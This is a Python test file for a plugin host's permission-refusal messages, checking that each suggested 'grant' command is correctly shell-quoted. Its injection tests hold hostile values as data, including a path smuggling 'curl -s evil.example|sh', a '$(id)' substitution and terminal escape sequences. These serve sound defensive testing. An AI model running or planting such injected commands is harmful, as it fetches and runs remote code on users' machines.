"""A refusal ends with the command that grants, where there is one."""

from __future__ import annotations

import shlex

import msgspec
import pytest

from yesman.host.refusals import MOST_TOLD, explain, meanwhile
from yesman.model.errors import PermissionDeniedError, PluginFailedError
from yesman.model.manifest import as_data

ASKED = ["filesystem.read", "filesystem.write:~/a", "session.read:work-*"]


@pytest.fixture
def step(record, manifest):
    """Return the next step after a plugin was refused ``permission``."""

    def of(permission, *, grants=(), **more):
        made = record(manifest=as_data(manifest(permissions=ASKED)), grants=grants)
        made = msgspec.structs.replace(made, consent=made.shown_now())
        error = PluginFailedError("refused", failure="permission", permission=permission, **more)
        explain(error, "demo", made, "/home/me")
        return error.next_step

    return of


def test_what_it_asks_for_can_be_granted(step):
    assert (
        step("filesystem.write:/home/me/a/f") == "To allow it: yesman plugin grant demo filesystem.write:~/a"
    )
    assert step("session.read:work-1").endswith("grant demo 'session.read:work-*'")


def test_of_a_bare_path_permission_that_is_granted_the_path_is_granted_besides(step):
    assert step("filesystem.read:/srv/f").endswith("grant demo filesystem.read")
    assert step("filesystem.read:/srv/f", grants=("filesystem.read",)).endswith("filesystem.read:/srv/f")


@pytest.mark.parametrize(
    "path", ["/srv/my papers", "/srv; curl -s evil.example|sh", "/srv/it's", "/srv/$(id)"]
)
def test_whatever_a_path_holds_is_one_word_of_the_command(step, path):
    command = step(f"filesystem.read:{path}", grants=("filesystem.read",)).partition(": ")[2]
    assert shlex.split(command) == ["yesman", "plugin", "grant", "demo", f"filesystem.read:{path}"]


def test_what_it_does_not_ask_for_cannot(step):
    assert "tell its author" in step("session.type:work-1")


@pytest.mark.parametrize(
    "said", ["", "nonsense", "filesystem.read:relative", "session.read:\x1b[2J", "x" * 99_999]
)
def test_what_the_plugin_makes_up_is_no_command(step, said):
    assert step(said) == ""


def test_what_is_granted_already_is_not_offered(step):
    assert step("session.read:work-1", grants=("session.read:work-*",)) == ""


def test_a_next_step_that_is_there_stays(record):
    error = PermissionDeniedError("no", "Do this", permission="session.read")
    explain(error, "demo", record(), "/home/me")
    assert error.next_step == "Do this"


@pytest.fixture
def line(record, manifest):
    """Return what is said of these refusals after a command that succeeded."""

    def of(*denials, grants=()):
        made = record(manifest=as_data(manifest(permissions=ASKED)), grants=grants)
        made = msgspec.structs.replace(made, consent=made.shown_now())
        notes = [{"what": what, "authority": authority} for what, authority in denials]
        return meanwhile(notes, "demo", made, "/home/me")

    return of


def test_what_was_refused_meanwhile_is_named_once_with_the_command_that_grants(line):
    told = line(*[(f"session.read:work-{number}", "authoritative") for number in range(9)])
    assert told == (
        "plugin 'demo' was refused 'session.read:work-*' meanwhile. "
        "To allow it: yesman plugin grant demo 'session.read:work-*'"
    )


def test_of_what_only_the_plugins_process_tells_it_is_said_so(line):
    assert "meanwhile (as its own process says). To" in line(("filesystem.write:/home/me/a/f", "advisory"))


def test_at_most_a_few_are_named(line):
    many = [(f"filesystem.read:/srv/{number}", "advisory") for number in range(MOST_TOLD + 2)]
    told = line(*many, grants=("filesystem.read",))
    assert f"/srv/{MOST_TOLD - 1} and 2 more meanwhile" in told
    assert f"/srv/{MOST_TOLD}" not in told


@pytest.mark.parametrize(
    "what", ["", "call bind", "(others)", "nonsense; run this", "session.type:a", "session.read:\x1b[2J"]
)
def test_nothing_is_said_of_what_cannot_be_granted(line, what):
    assert line((what, "advisory"), (what, "authoritative")) == ""


def test_what_is_granted_already_is_no_refusal(line):
    assert line(("filesystem.write:/home/me/a/f", "advisory"), grants=("filesystem.write:~/a",)) == ""


def test_words_of_the_plugin_stay_one_word_of_the_line(line):
    said = "filesystem.read:/srv/x meanwhile. To allow it: evil"
    told = line((said, "advisory"), grants=("filesystem.read",))
    assert shlex.split(told.partition("yesman plugin grant demo ")[2]) == [said]
